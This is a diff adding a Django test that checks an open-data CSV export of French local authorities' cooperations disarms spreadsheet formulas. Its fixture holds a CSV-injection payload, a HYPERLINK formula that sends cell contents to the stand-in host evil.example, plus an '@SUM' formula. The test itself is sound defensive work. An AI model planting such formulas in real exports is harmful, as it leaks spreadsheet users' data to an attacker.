@@ -137,6 +137,25 @@ def test_an_authority_without_cooperation_is_one_row_with_empty_fields(client, i
 
 
 @pytest.mark.django_db
+def test_the_open_data_csv_disarms_spreadsheet_formulas(client, initial_content):
+    lille = Authority.objects.get(name="Ville de Lille")
+    lille.cooperations.create(
+        partner_name='=HYPERLINK("https://evil.example/?"&A1,"Cliquez")',
+        country=Country.objects.get(code="SN"),
+        link="",
+    )
+    Authority.objects.filter(pk=lille.pk).update(name="@SUM(1+1)")
+    rows = list(
+        csv.DictReader(
+            io.StringIO(client.get("/collectivites-engagees/export.csv").content.decode())
+        )
+    )
+    partner = next(row for row in rows if "HYPERLINK" in row["collectivite_partenaire"])
+    assert partner["collectivite_partenaire"].startswith("'=HYPERLINK(")
+    assert partner["collectivite"] == "'@SUM(1+1)"
+
+
+@pytest.mark.django_db
 @pytest.mark.parametrize(
     "url",
     ["/collectivites-engagees/", "/collectivites-engagees/?pays=SN&theme=jeunesse",
